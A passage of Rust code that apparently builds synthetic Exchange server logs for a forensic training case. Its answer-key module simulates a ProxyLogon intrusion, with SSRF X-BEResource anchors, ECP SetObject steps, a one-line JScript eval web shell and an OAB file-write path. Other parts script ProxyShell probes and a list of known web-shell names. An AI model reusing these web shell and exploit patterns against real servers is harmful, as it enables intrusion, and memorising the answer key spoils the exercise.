                if host.is_online(at) {
                    case.logs(host).httperr.push(HttpErrRecord { at, rest });
                }
            }
        }
        if day == case_day_start(3) {
            for i in 0..5 {
                let at = PATCH_RESTART - PATCH_DOWNTIME - 2 * SECOND + i * 300;
                let user = rng.pick(staff);
                let rest = format!(
                    "{} {} {} 443 HTTP/1.1 POST /owa/service.svc?action=FindItem - 1 Connection_Abandoned_By_ReqQueue MSExchangeOWAAppPool",
                    user.desktop_ip,
                    rng.range(49_152, 65_535),
                    Host::A.ip()
                );
                case.logs(Host::A).httperr.push(HttpErrRecord { at, rest });
            }
        }
    }

    /// MBX-A loses power just before midnight on 2021-03-06: its last W3SVC1 line is cut inside
    /// the user agent, and the request never reached the HttpProxy log.
    pub(super) fn power_loss(case: &mut Case, rng: &mut Rng, staff: &[Employee]) {
        let user = &staff[1 % staff.len()];
        let caller = Caller::employee(user, &user.desktop_ip, OUTLOOK_UA);
        let call = Call::new(
            march(6, 23, 59, 59, 874),
            Host::A,
            "POST",
            "/mapi/emsmdb/",
            Protocol::Mapi,
        )
        .query(format!("MailboxId={}@{DOMAIN}", user.mailbox_guid))
        .took(31);
        let query = exchange_query(&call.query, &rng.guid(), Protocol::Mapi);
        case.torn_line = Some(iis_record(&call, &caller, query));
    }
}

mod branch {
    //! The branch office, scripted whole from its own seed: MBX-C, published as
    //! `mail-branch.example.org` behind a balancer pair that source-NATs (every IIS `c-ip` and
    //! HttpProxy `ClientIpAddress` is a balancer) and inserts X-Forwarded-For, and MBX-D, its
    //! mailbox server, which is not published. MBX-C was attacked and not compromised: ProxyShell
    //! and ProxyNotShell requests refused (401, 404) from an address seen only in
    //! X-Forwarded-For, behind a forged left-most entry; known shell names probed (404). MBX-D is
    //! clean.

    use super::*;

    pub(super) const BALANCERS: [&str; 2] = ["10.20.0.5", "10.20.0.6"];
    const PUBLISHED: &str = "mail-branch.example.org";
    /// The ProxyShell attacker, and the entry it puts in front of itself.
    pub(super) const ATTACKER: &str = "198.51.100.23";
    const FORGED: &str = "127.0.0.1";
    const ATTACKER_UA: &str = "python-requests/2.26.0";
    /// A prober of known shell names.
    pub(super) const PROBER: &str = "203.0.113.99";
    const PROBER_UA: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.150 Safari/537.36";
    /// A home worker behind a cloud web proxy, which names its own user (a private address)
    /// before the balancer appends the proxy's egress.
    pub(super) const CLOUD_PROXY: &str = "192.0.2.201";
    const CLOUD_USER: &str = "10.9.8.7";
    const BRANCH_STAFF: [&str; 6] = [
        "a.okafor",
        "b.lindqvist",
        "c.moreau",
        "d.tanaka",
        "e.horvat",
        "f.silva",
    ];

    pub(super) fn plant(case: &mut Case, rng: &mut Rng) {
        for day_index in 0..CASE_DAYS {
            let day = case_day_start(day_index);
            health_checks(case, rng, day);
            probes(case, rng, day);
            for (i, user) in BRANCH_STAFF.iter().enumerate() {
                staff_day(case, rng, user, i, day);
            }
        }
        proxyshell(case, rng);
        shell_names(case, rng);
    }

    /// Records through the balancer: what `record` writes on MBX-C came from `chain`'s last
    /// address, relayed by one of the balancers.
    fn via_balancer(
        case: &mut Case,
        rng: &mut Rng,
        chain: &str,
        record: impl FnOnce(&mut Case, &mut Rng),
    ) {
        let (front, proxy) = {
            let logs = case.logs(Host::C);
            (logs.front_end.len(), logs.proxy.len())
        };
        record(case, rng);
        let balancer = BALANCERS[rng.below(2) as usize];
        let logs = case.logs(Host::C);
        for r in &mut logs.front_end[front..] {
            r.client_ip = balancer.to_string();
            r.forwarded_for = chain.to_string();
        }
        for r in &mut logs.proxy[proxy..] {
            r.client_ip = balancer.to_string();
        }
    }

    /// Records that reached `host` directly (no X-Forwarded-For).
    fn direct(case: &mut Case, host: Host, record: impl FnOnce(&mut Case)) {
        let front = case.logs(host).front_end.len();
        record(case);
        for r in &mut case.logs(host).front_end[front..] {
            r.forwarded_for.clear();
        }
    }

    /// Each balancer checks MBX-C every two minutes (one check a minute between them); the
    /// checks are its own requests, with no X-Forwarded-For.
    fn health_checks(case: &mut Case, rng: &mut Rng, day: Millis) {
        for slot in 0..(DAY / MINUTE) {
            let at = day + slot * MINUTE + rng.millis(0, 900);
            let caller = Caller::anonymous(BALANCERS[(slot % 2) as usize], "");
            let call = Call::new(at, Host::C, "GET", "/owa/healthcheck.htm", Protocol::Owa)
                .took(rng.range_u32(0, 2));
            direct(case, Host::C, |case| record_iis_only(case, &caller, &call));
        }
    }

    /// Managed Availability on both branch servers, every two hours, from their own address.
    fn probes(case: &mut Case, rng: &mut Rng, day: Millis) {
        for host in [Host::C, Host::D] {
            for slot in 0..12 {
                let at = day + slot * 2 * HOUR + rng.millis(5 * SECOND, 4 * MINUTE);
                let mailbox = super::background::health_mailbox(host);
                let caller = Caller {
                    iis_user: format!("{mailbox}@{DOMAIN}"),
                    authenticated_user: format!("EXAMPLE\\{mailbox}"),
                    backend_user: format!("{mailbox}@{DOMAIN}"),
                    url_host: host.fqdn().to_lowercase(),
                    anchor: format!("Smtp~{mailbox}@{DOMAIN}"),
                    target: Target::Server(host),
                    ..Caller::account(host.ip(), MAPI_PROBE_UA, "", "Negotiate", host)
                };
                let call = Call::new(at, host, "POST", "/mapi/emsmdb/", Protocol::Mapi)
                    .query("mailboxId=probe")
                    .took(rng.range_u32(20, 120))
                    .bytes(400, 2_000);
                direct(case, host, |case| record_proxied(case, rng, &caller, &call));
            }
        }
    }

    /// A branch employee's day: Outlook over MAPI and EWS through the balancer, proxied to
    /// MBX-D; the last one works from home behind a cloud web proxy.
    fn staff_day(case: &mut Case, rng: &mut Rng, user: &str, index: usize, day: Millis) {
        if weekday(day) >= 5 && index % 2 == 1 {
            return;
        }
        let from_home = index == BRANCH_STAFF.len() - 1;
        let chain = if from_home {
            format!("{CLOUD_USER}, {CLOUD_PROXY}")
        } else {
            format!("10.30.1.{}", 20 + index)
        };
        let account = format!("EXAMPLE\\{user}");
        for _ in 0..rng.range(6, 14) {
            let at = office_moment(rng, day);
            let (ua, stem, protocol, method) = match rng.below(3) {
                0 => (OUTLOOK_UA, "/mapi/emsmdb/", Protocol::Mapi, "POST"),
                1 => (OUTLOOK_UA, "/EWS/Exchange.asmx", Protocol::Ews, "POST"),
                _ => (
                    BROWSER_UAS[index % BROWSER_UAS.len()],
                    "/owa/",
                    Protocol::Owa,
                    "GET",
                ),
            };
            let caller = Caller {
                url_host: PUBLISHED.to_string(),
                ..Caller::account(&chain, ua, &account, "Negotiate", Host::D)
            };
            let call = Call::new(at, Host::C, method, stem, protocol)
                .took(rng.range_u32(15, 400))
                .bytes(rng.range_u32(200, 3_000), rng.range_u32(500, 40_000));
            via_balancer(case, rng, &chain, |case, rng| {
                record_proxied(case, rng, &caller, &call);
            });
        }
        // Outlook mobile's autodiscover.json: the ProxyShell stem, with Protocol= and no '@'.
        if index == 0 {
            let phone = "192.0.2.141";
            let at = office_moment(rng, day);
            let caller = Caller {
                anchor: format!("Smtp~{user}@{DOMAIN}"),
                routing_hint: "Url",
                target: Target::Server(Host::D),
                database: Host::D.database().to_string(),
                url_host: PUBLISHED.to_string(),
                ..Caller::anonymous(phone, OUTLOOK_MOBILE_UA)
            };
            let call = Call::new(
                at,
                Host::C,
                "GET",
                "/autodiscover/autodiscover.json",
                Protocol::Autodiscover,
            )
            .query(format!(
                "Email={user}%40{DOMAIN}&Protocol=ActiveSync&RedirectCount=1"
            ))
            .took(rng.range_u32(15, 90))
            .bytes(0, 180);
            via_balancer(case, rng, phone, |case, rng| {
                record_proxied(case, rng, &caller, &call);
            });
        }
    }

    /// 2021-03-05 21:14 onwards: ProxyShell's path confusion towards PowerShell, MAPI and EWS,
    /// refused with 401 (the server had the July 2021 update), then ProxyNotShell's pattern,
    /// refused with 404. The attacker puts `127.0.0.1` in front of itself; the balancer appends
    /// the real address.
    fn proxyshell(case: &mut Case, rng: &mut Rng) {
        let chain = format!("{FORGED}, {ATTACKER}");
        let email = "autodiscover/autodiscover.json%3F@evil.example";
        let attempts: [(&'static str, String, Status); 6] = [
            (
                "GET",
                format!("@evil.example/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email={email}"),
                CHALLENGE,
            ),
            (
                "POST",
                format!("@evil.example/mapi/nspi/?&Email={email}"),
                CHALLENGE,
            ),
            (
                "POST",
                format!("@evil.example/ews/exchange.asmx?&Email={email}"),
                CHALLENGE,
            ),
            (
                "GET",
                format!("@evil.example/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email={email}"),
                CHALLENGE,
            ),
            (
                "GET",
                format!("@evil.example/PowerShell/?Email={email}"),
                NOT_FOUND,
            ),
            (
                "POST",
                format!("@evil.example/PowerShell/?Email={email}"),
                NOT_FOUND,
            ),
        ];
        let mut at = march(5, 21, 14, 2, 318);
        for (method, query, status) in attempts {
            let caller = Caller {
                url_host: PUBLISHED.to_string(),
                ..Caller::anonymous(&chain, ATTACKER_UA)
            };
            let call = Call::new(
                at,
                Host::C,
                method,
                "/autodiscover/autodiscover.json",
                Protocol::Autodiscover,
            )
            .query(query)
            .status(status)
            .took(rng.range_u32(2, 30));
            via_balancer(case, rng, &chain, |case, rng| {
                record_local(case, rng, &caller, &call, "");
            });
            at += rng.millis(3 * SECOND, 40 * SECOND);
        }
    }

    /// Known shell names, none of them there.
    fn shell_names(case: &mut Case, rng: &mut Rng) {
        let mut at = march(6, 2, 40, 17, 0);
        for stem in [
            "/aspnet_client/shell.aspx",
            "/aspnet_client/supp0rt.aspx",
            "/aspnet_client/system_web/log.aspx",
            "/aspnet_client/aspnet_www.aspx",
            "/aspnet_client/errorcheck.aspx",
            "/aspnet_client/OutlookEN.aspx",
        ] {
            let caller = Caller::anonymous(PROBER, PROBER_UA);
            let call = Call::new(at, Host::C, "GET", stem, Protocol::Owa)
                .status(NOT_FOUND)
                .took(rng.range_u32(0, 3));
            via_balancer(case, rng, PROBER, |case, _| {
                record_iis_only(case, &caller, &call);
            });
            at += rng.millis(400, 2_500);
        }
    }
}

mod decoys {
    //! Traffic that looks bad and is not: a web-shell scanner, a python monitoring job, the
    //! Teams calendar service, Outlook mobile, an administrator's URL change and OAB housekeeping
    //! (the last one lives in the background module).

    use super::background::{AdminEcp, admin_ecp_request};
    use super::*;

    pub(super) fn plant(case: &mut Case, rng: &mut Rng, staff: &[Employee]) {
        scanner(case, rng);
        monitoring_job(case, rng);
        teams_calendar(case, rng, staff);
        outlook_mobile(case, rng, staff);
        owa_url_change(case, rng);
        failed_cmdlets(case);
    }

    /// Two administrator typos. Event 6 puts the error on a second line, so the exported
    /// Message holds a CRLF inside its quotes.
    fn failed_cmdlets(case: &mut Case) {
        let failures = [
            (
                Host::A,
                march(5, 9, 14, 37, 552),
                cmdlet_message(
                    "failed",
                    "Set-Mailbox",
                    &[
                        ("Identity", "l.meyr"),
                        ("RetentionPolicy", "Finance 7 years"),
                    ],
                ),
                "Error: The operation couldn't be performed because object 'l.meyr' couldn't be found on 'DC01.corp.example.org'.",
            ),
            (
                Host::B,
                march(4, 10, 19, 5, 208),
                cmdlet_message(
                    "failed",
                    "New-MoveRequest",
                    &[("Identity", "p.novak"), ("TargetDatabase", "DB03")],
                ),
                "Error: Couldn't find database \"DB03\". Make sure you have typed it correctly.",
            ),
        ];
        for (server, at, message, error) in failures {
            let message = format!("{message}\r\n{error}");
            case.logs(server).events.push(ManagementEvent {
                at,
                id: 6,
                level: "Error",
                server,
                message,
            });
        }
    }

    pub(super) const SCANNER_IP: &str = "192.0.2.55";
    /// (server, start) of the four scanning sessions.
    const SCAN_SESSIONS: [(Host, Millis); 4] = [
        (Host::A, march(4, 14, 10, 3, 0)),
        (Host::B, march(4, 14, 12, 47, 0)),
        (Host::A, march(6, 9, 30, 11, 0)),
        (Host::B, march(6, 9, 31, 50, 0)),
    ];
    /// Published web-shell names (§16.3), none present on these servers.
    const SHELL_PROBES: [&str; 38] = [
        "/aspnet_client/shell.aspx",
        "/aspnet_client/system_web/log.aspx",
        "/aspnet_client/supp0rt.aspx",
        "/aspnet_client/aspnet_www.aspx",
        "/aspnet_client/aspnet_client.aspx",
        "/aspnet_client/aspnet_iisstart.aspx",
        "/aspnet_client/xx.aspx",
        "/aspnet_client/Server.aspx",
        "/aspnet_client/aspnet_pages.aspx",
        "/aspnet_client/default1.aspx",
        "/aspnet_client/errorcheck.aspx",
        "/aspnet_client/iispage.aspx",
        "/aspnet_client/s.aspx",
        "/aspnet_client/session.aspx",
        "/aspnet_client/xclkmcfldfi948398430fdjkfdkj.aspx",
        "/aspnet_client/HttpProxy.aspx",
        "/aspnet_client/OutlookEN.aspx",
        "/aspnet_client/services.aspx",
        "/owa/auth/errorEE.aspx",
        "/owa/auth/help.aspx",
        "/owa/auth/one.aspx",
        "/owa/auth/web.aspx",
        "/owa/auth/document.aspx",
        "/owa/auth/errorEEE.aspx",
        "/owa/auth/errorEW.aspx",
        "/owa/auth/errorFF.aspx",
        "/owa/auth/healthcheck.aspx",
        "/owa/auth/8Lw7tAhF9i1pJnRo.aspx",
        "/owa/auth/OutlookZH.aspx",
        "/owa/auth/authhead.aspx",
        "/owa/auth/bob.aspx",
        "/owa/auth/Current/one1.aspx",
        "/owa/auth/errorPage.aspx",
        "/owa/auth/fatal-erro.aspx",
        "/owa/auth/logg.aspx",
        "/owa/auth/shel.aspx",
        "/owa/auth/shel2.aspx",
        "/owa/auth/shel90.aspx",
    ];

    /// ~150 GETs of known shell names (404 under `/aspnet_client/`, 302 under `/owa/auth/`)
    /// plus Microsoft's nmap check `GET /owa/auth/x.js`.
    fn scanner(case: &mut Case, rng: &mut Rng) {
        for (session, (host, start)) in SCAN_SESSIONS.iter().enumerate() {
            let mut at = *start;
            let caller = Caller {
                url_host: PUBLIC_IP.to_string(),
                auth_kind: "FBA",
                ..Caller::anonymous(SCANNER_IP, SCANNER_UA)
            };
            for (i, stem) in SHELL_PROBES.iter().enumerate() {
                at += rng.millis(400, 2_200);
                let took = rng.range_u32(1, 12);
                let call = Call::new(at, *host, "GET", stem, Protocol::Owa).took(took);
                if stem.starts_with("/aspnet_client/") {
                    let escape = *host == Host::B && session == 3 && i == 0;
                    let caller = if escape {
                        Caller {
                            user_agent: SCANNER_ESCAPE_UA.to_string(),
                            ..caller.clone()
                        }
                    } else {
                        caller.clone()
                    };
                    record_iis_only(case, &caller, &call.status(NOT_FOUND));
                } else {
                    record_local(
                        case,
                        rng,
                        &caller,
                        &call.status(FOUND),
                        "NoCookies=302 - GET/E14AuthPost;",
                    );
                }
            }
            at += rng.millis(400, 2_200);
            let check = Caller {
                auth_kind: "",
                anchor: "ServerInfo~localhost/owa/auth/logon.aspx?".to_string(),
                routing_hint: "X-BEResource-Cookie",
                target: Target::LoopbackFrontEnd,
                target_version: "",
                ..caller.clone()
            };
            let call = Call::new(at, *host, "GET", "/owa/auth/x.js", Protocol::Owa)
                .took(rng.range_u32(20, 80))
                .bytes(0, 1_500);
            record_proxied(case, rng, &check, &call);
            let bad = format!(
                "{SCANNER_IP} {} {} 443 HTTP/1.1 GET /owa/auth/%2e%2e/%2e%2e/web.config 400 - BadRequest -",
                rng.range(49_152, 65_535),
                host.ip()
            );
            case.logs(*host).httperr.push(HttpErrRecord {
                at: at + 900,
                rest: bad,
            });
        }
    }

    const MONITOR_IP: &str = "172.16.8.50";
    const MONITOR_ACCOUNT: &str = "EXAMPLE\\svc-monitor";

    /// A python job checks both servers every five minutes: the health page and an EWS call.
    fn monitoring_job(case: &mut Case, rng: &mut Rng) {
        let page = Caller::anonymous(MONITOR_IP, PYTHON_REQUESTS_UA);
        for host in Host::ALL {
            let ews = Caller {
                url_host: host.fqdn().to_lowercase(),
                anchor: format!("Sid~{SID_PREFIX}-1210"),
                ..Caller::account(
                    MONITOR_IP,
                    PYTHON_REQUESTS_UA,
                    MONITOR_ACCOUNT,
                    "NTLM",
                    Host::B,
                )
            };
            for slot in 0..(CASE_DAYS * DAY / MONITOR_INTERVAL) {
                let at =
                    case_day_start(0) + slot * MONITOR_INTERVAL + 7 * SECOND + rng.millis(0, 900);
                if !host.is_online(at) {
                    continue;
                }
                record_iis_only(
                    case,
                    &page,
                    &Call::new(at, host, "GET", "/owa/healthcheck.htm", Protocol::Owa)
                        .took(rng.range_u32(1, 4)),
                );
                let call = Call::new(
                    at + rng.millis(150, 600),
                    host,
                    "POST",
                    "/EWS/Exchange.asmx",
                    Protocol::Ews,
                )
                .took(rng.range_u32(25, 140))
                .bytes(rng.range_u32(700, 900), rng.range_u32(1_100, 1_800));
                record_proxied(case, rng, &ews, &call);
            }
        }
    }

    /// The Teams calendar service reads calendars over EWS with OAuth from Microsoft addresses
    /// (here 192.0.2.130–139); its user agent contains `ExchangeServicesClient/0.0.0.0`.
    fn teams_calendar(case: &mut Case, rng: &mut Rng, staff: &[Employee]) {
        for day_index in 0..CASE_DAYS {
            let day = case_day_start(day_index);
            for _ in 0..rng.scaled(50, day_percent(day).max(40)) {
                let at = office_moment(rng, day);
                let user = rng.pick(staff);
                let ip = format!("192.0.2.{}", rng.range(130, 139));
                let caller = Caller {
                    anchor: format!("Smtp~{}", user.smtp()),
                    routing_hint: "OAuthIdentity",
                    ..Caller::account(&ip, TEAMS_UA, &user.smtp(), "OAuth", user.home)
                };
                let call = Call::new(
                    at,
                    balanced_front(rng, at),
                    "POST",
                    "/EWS/Exchange.asmx",
                    Protocol::Ews,
                )
                .took(rng.range_u32(30, 400))
                .bytes(rng.range_u32(900, 2_000), rng.range_u32(2_000, 25_000));
                record_proxied(case, rng, &caller, &call);
            }
        }
    }

    /// Outlook for iOS discovers ActiveSync settings through autodiscover.json (looks like the
    /// ProxyShell stem, but carries `Protocol=ActiveSync` and no `@` before the path).
    fn outlook_mobile(case: &mut Case, rng: &mut Rng, staff: &[Employee]) {
        let mobile_users: Vec<&Employee> = staff
            .iter()
            .filter(|u| u.mobile.is_some())
            .take(3)
            .collect();
        for day_index in 0..CASE_DAYS {
            let day = case_day_start(day_index);
            for _ in 0..rng.range(3, 6) {
                let Some(user) = mobile_users.get(rng.below(mobile_users.len() as u64) as usize)
                else {
                    return;
                };
                let at = office_moment(rng, day);
                let ip = format!("192.0.2.{}", rng.range(140, 149));
                let caller = Caller {
                    anchor: format!("Smtp~{}", user.smtp()),
                    routing_hint: "Url",
                    target: Target::Server(user.home),
                    database: user.home.database().to_string(),
                    ..Caller::anonymous(&ip, OUTLOOK_MOBILE_UA)
                };
                let query = format!(
                    "Email={}%40{DOMAIN}&Protocol=ActiveSync&RedirectCount=1",
                    user.sam
                );
                let call = Call::new(
                    at,
                    balanced_front(rng, at),
                    "GET",
                    "/autodiscover/autodiscover.json",
                    Protocol::Autodiscover,
                )
                .query(query)
                .took(rng.range_u32(15, 90))
                .bytes(0, 180);
                record_proxied(case, rng, &caller, &call);
            }
        }
    }

    /// The administrator sets the OWA external URL on 2021-03-04 (§5.6 line 1): matches the
    /// pre-2021-03-18 Test-ProxyLogon regex, not the current one.
    fn owa_url_change(case: &mut Case, rng: &mut Rng) {
        let end = march(4, 10, 22, 48, 951);
        let request = AdminEcp {
            front: Host::B,
            end,
            operation: "SetObject",
            schema: "OWAVirtualDirectory",
            canary: "mBJbsdFoQdKURT2Ha9f_JBrSqHWkpFCmsc5akF9MgUmfgW1NcPXAEoD8bR6jsgNK.",
            command: "Set-OwaVirtualDirectory.ExternalUrl='https://mail.example.org/owa'.Identity='51ff8df8-ff59-48d3-af27-7fdc64d82c7a'",
            ecp_millis: 412,
            session: "1e139bc7-32c8-4bc0-8344-234e98859808",
            activity: "b2f77dc3-e263-44dd-a533-f2615ef5a259",
            user_session: "40ea6d9c-3e70-4524-a6e1-ec8a9a831f60",
        };
        admin_ecp_request(case, rng, &request);
        // The ECP line is written when the request ends; pin it to the documented millisecond.
        if let Some(line) = case.logs(Host::B).ecp.last_mut() {
            line.at = march(4, 10, 22, 48, 903);
        }
        record_cmdlet(
            case,
            Host::B,
            march(4, 10, 22, 48, 871),
            "Set-OwaVirtualDirectory",
            &[
                ("ExternalUrl", "https://mail.example.org/owa"),
                ("Identity", "51ff8df8-ff59-48d3-af27-7fdc64d82c7a"),
            ],
        );
    }
}

mod intrusion {
    //! The answer key: ProxyLogon (CVE-2021-26855 + CVE-2021-27065) by 198.51.100.144, a
    //! CVE-2021-26858 file write, and web-shell use with a mailbox export by 203.0.113.77.

    use super::*;

    pub(super) const EXPLOIT_IP: &str = "198.51.100.144";
    pub(super) const OPERATOR_IP: &str = "203.0.113.77";
    pub(super) const CANARY: &str =
        "Ko379JgNxmbA79omJrCRwdEsb3xCyeBe5XQP7W2dnUJwS9sClqQIRzov-KreXbLk.";
    pub(super) const OAB_VDIR: &str = "0d821204-688a-4ef8-b7e3-1aca5cafcaf2";
    const ECP_SESSION: &str = "c5f2e9d4-7046-4dd3-b2c7-0fb3fe3cf944";
    const ECP_USER_SESSION: &str = "7afe83a4-47a2-4c94-a82b-c57b4674b467";
    pub(super) const SHELL_SCRIPT: &str = "http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"zz9\"],\"unsafe\");}</script>";

    pub(super) fn plant(case: &mut Case, rng: &mut Rng) {
        probe_backend_name(case, rng);
        ssrf_chain(case, rng);
        first_shell_access(case);
        oab_file_write(case, rng);
        web_shell_operator(case, rng);
    }

    fn ssrf_caller(user_agent: &str, anchor: String) -> Caller {
        Caller {
            anchor,
            routing_hint: "X-BEResource-Cookie",
            backend_user: Host::A.machine_account().to_string(),
            target: Target::Server(Host::A),
            ..Caller::anonymous(EXPLOIT_IP, user_agent)
        }
    }

    /// `X-BEResource=localhost~1942062522` (a 15.1.1466 version) to learn the server's name.
    fn probe_backend_name(case: &mut Case, rng: &mut Rng) {
        let caller = Caller {
            target: Target::Localhost,
            target_version: "15.01.1466.000",
            ..ssrf_caller(EWS_CLIENT_UA, "ServerInfo~localhost~1942062522".to_string())
        };
        let call = Call::new(
            march(5, 17, 41, 58, 337),
            Host::A,
            "GET",
            "/ecp/t.js",
            Protocol::Ecp,
        )
        .took(96)
        .bytes(0, 1_120);
        record_proxied(case, rng, &caller, &call);
    }

    /// (IIS end, target path from the cookie, status, time-taken ms).
    fn ssrf_steps() -> [(Millis, String, Status, u32); 7] {
        let ddi = "/ecp/DDI/DDIService.svc";
        [
            (
                march(5, 17, 42, 5, 214),
                "/autodiscover/autodiscover.xml?#".to_string(),
                OK,
                312,
            ),
            (
                march(5, 17, 42, 11, 689),
                "/mapi/emsmdb/?#".to_string(),
                OK,
                287,
            ),
            (
                march(5, 17, 42, 19, 506),
                "/ecp/proxyLogon.ecp?#".to_string(),
                PROXYLOGON,
                375,
            ),
            (
                march(5, 17, 42, 24, 602),
                format!("{ddi}/GetObject?msExchEcpCanary={CANARY}&schema=OABVirtualDirectory#"),
                OK,
                498,
            ),
            (
                march(5, 17, 42, 27, 164),
                format!("{ddi}/SetObject?msExchEcpCanary={CANARY}&schema=OABVirtualDirectory#"),
                OK,
                1_611,
            ),
            (
                march(5, 17, 42, 31, 733),
                format!(
                    "{ddi}/SetObject?msExchEcpCanary={CANARY}&schema=ResetOABVirtualDirectory#"
                ),
                OK,
                2_240,
            ),
            (
                march(5, 17, 42, 36, 410),
                format!("{ddi}/SetObject?msExchEcpCanary={CANARY}&schema=OABVirtualDirectory#"),
                OK,
                903,
            ),
        ]
    }

    /// `POST /ecp/t.js` with `X-BEResource=a]@MBX-A…:444/<path>#`: the back end serves `<path>`
    /// as the front end's machine account (CVE-2021-26855), then ECP writes the shell (27065).
    fn ssrf_chain(case: &mut Case, rng: &mut Rng) {
        for (end, path, status, took) in ssrf_steps() {
            let anchor = format!("ServerInfo~a]@{}:444{path}", Host::A.fqdn());
            let caller = ssrf_caller(PYTHON_REQUESTS_UA, anchor);
            let target = path.trim_end_matches('#');
            let (stem, query) = target.split_once('?').unwrap_or((target, ""));
            let mut call = Call::new(end, Host::A, "POST", "/ecp/t.js", Protocol::Ecp)
                .status(status)
                .took(took)
                .bytes(rng.range_u32(900, 1_900), rng.range_u32(300, 6_000));
            call.backend_path = Some((stem.to_string(), query.to_string()));
            record_proxied(case, rng, &caller, &call);
        }
        ecp_trail(case, rng);
    }

    /// What ECP on MBX-A logged for the DDIService steps, and the Management events.
    fn ecp_trail(case: &mut Case, rng: &mut Rng) {
        let ddi = "/ecp/DDI/DDIService.svc";
        let exploit =
            format!("Set-OabVirtualDirectory.ExternalUrl='{SHELL_SCRIPT}'.Identity='{OAB_VDIR}'");
        let steps: [(Millis, u32, String, String, String); 4] = [
            (
                march(5, 17, 42, 24, 571),
                86,
                format!("Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity='{OAB_VDIR}'"),
                format!("{ddi}/GetObject?msExchEcpCanary={CANARY}&schema=OABVirtualDirectory"),
                rng.guid(),
            ),
            (
                march(5, 17, 42, 27, 118),
                1544,
                exploit,
                format!("{ddi}/SetObject?msExchEcpCanary={CANARY}&schema=OABVirtualDirectory"),
                "efbf4152-00c7-4762-b83a-d1d22c8a1167".to_string(),
            ),
            (
                march(5, 17, 42, 31, 690),
                2108,
                format!("Get-OabVirtualDirectory.Identity='{OAB_VDIR}'"),
                format!("{ddi}/SetObject?msExchEcpCanary={CANARY}&schema=ResetOABVirtualDirectory"),
                rng.guid(),
            ),
            (
                march(5, 17, 42, 36, 377),
                655,
                format!("Set-OabVirtualDirectory.ExternalUrl=$null.Identity='{OAB_VDIR}'"),
                format!("{ddi}/SetObject?msExchEcpCanary={CANARY}&schema=OABVirtualDirectory"),
                rng.guid(),
            ),
        ];
        for (at, millis, command, url, activity) in &steps {
            let request = EcpRequest {
                millis: *millis,
                session: ECP_SESSION,
                command,
                url,
                activity,
                user_session: ECP_USER_SESSION,
            };
            record_ecp(case, Host::A, *at, &request);
        }
        record_cmdlet(
            case,
            Host::A,
            march(5, 17, 42, 27, 93),
            "Set-OabVirtualDirectory",
            &[("ExternalUrl", SHELL_SCRIPT), ("Identity", OAB_VDIR)],
        );
        record_cmdlet(
            case,
            Host::A,
            march(5, 17, 42, 36, 342),
            "Set-OabVirtualDirectory",
            &[("ExternalUrl", "$null"), ("Identity", OAB_VDIR)],
        );
    }

    /// The reset wrote web shell 1 to `C:\inetpub\wwwroot\aspnet_client\discover.aspx`; IIS
    /// serves it alone, so there is no cafeReqId and no HttpProxy row.
    fn first_shell_access(case: &mut Case) {
        let caller = Caller::anonymous(EXPLOIT_IP, PYTHON_REQUESTS_UA);
        let call = Call::new(
            march(5, 17, 43, 2, 448),
            Host::A,
            "GET",
            "/aspnet_client/discover.aspx",
            Protocol::Owa,
        )
        .took(187);
        record_iis_only(case, &caller, &call);
    }

    pub(super) const OAB_WRITE_PATH: &str = "\\\\127.0.0.1\\c$\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\RedirSuiteServerProxy.aspx";

    /// CVE-2021-26858: the OAB generator downloads to an attacker path (web shell 2), then the
    /// attacker checks it.
    fn oab_file_write(case: &mut Case, rng: &mut Rng) {
        case.logs(Host::A).oab.push(OabRecord {
            at: march(5, 17, 55, 40, 261),
            server: Host::A,
            level: "Warning",
            message: format!(
                "Download failed and temporary file '{OAB_WRITE_PATH}' needs to be removed."
            ),
        });
        let caller = Caller {
            auth_kind: "FBA",
            ..Caller::anonymous(EXPLOIT_IP, PYTHON_REQUESTS_UA)
        };
        let call = Call::new(
            march(5, 17, 56, 3, 512),
            Host::A,
            "GET",
            "/owa/auth/RedirSuiteServerProxy.aspx",
            Protocol::Owa,
        )
        .took(241);
        record_local(case, rng, &caller, &call, "");
    }

    /// Web-shell POSTs of the operator: (day, hour, minute, second, RedirSuiteServerProxy.aspx?).
    /// 40 in six bursts; the first one is the documented 19:16:40 line.
    pub(super) const SHELL_POSTS: [(u32, i64, i64, i64, bool); 40] = [
        (5, 19, 16, 40, true),
        (5, 19, 16, 58, false),
        (5, 19, 17, 21, false),
        (5, 19, 17, 49, true),
        (5, 19, 18, 30, false),
        (5, 19, 19, 2, false),
        (5, 19, 19, 44, true),
        (5, 19, 20, 37, false),
        (5, 20, 4, 31, false),
        (5, 20, 4, 50, false),
        (5, 20, 5, 12, false),
        (5, 20, 5, 40, true),
        (5, 20, 6, 3, false),
        (5, 20, 6, 29, false),
        (5, 20, 6, 58, true),
        (5, 20, 7, 30, false),
        (5, 20, 29, 48, false),
        (5, 20, 30, 15, false),
        (5, 20, 30, 41, true),
        (5, 20, 32, 2, false),
        (5, 20, 33, 42, false),
        (5, 20, 34, 10, true),
        (5, 23, 41, 7, true),
        (5, 23, 41, 39, false),
        (5, 23, 42, 12, false),
        (5, 23, 42, 55, false),
        (5, 23, 43, 30, true),
        (5, 23, 44, 2, false),
        (6, 2, 10, 22, true),
        (6, 2, 10, 51, false),
        (6, 2, 11, 30, false),
        (6, 2, 12, 16, false),
        (6, 2, 13, 1, true),
        (6, 2, 13, 47, false),
        (6, 3, 52, 15, true),
        (6, 3, 53, 2, false),
        (6, 3, 54, 18, false),
        (6, 3, 55, 40, false),
        (6, 3, 57, 5, false),
        (6, 3, 58, 11, true),
    ];

    fn web_shell_operator(case: &mut Case, rng: &mut Rng) {
        let caller = Caller {
            auth_kind: "FBA",
            ..Caller::anonymous(OPERATOR_IP, ATTACKER_BROWSER_UA)
        };
        for (day, hour, minute, second, owa_shell) in SHELL_POSTS {
            let end = march(day, hour, minute, second, rng.range(0, 999) as Millis);
            let took = rng.range_u32(280, 3_100);
            if owa_shell {
                let call = Call::new(
                    end,
                    Host::A,
                    "POST",
                    "/owa/auth/RedirSuiteServerProxy.aspx",
                    Protocol::Owa,
                )
                .took(took);
                record_local(case, rng, &caller, &call, "");
            } else {
                let call = Call::new(
                    end,
                    Host::A,
                    "POST",
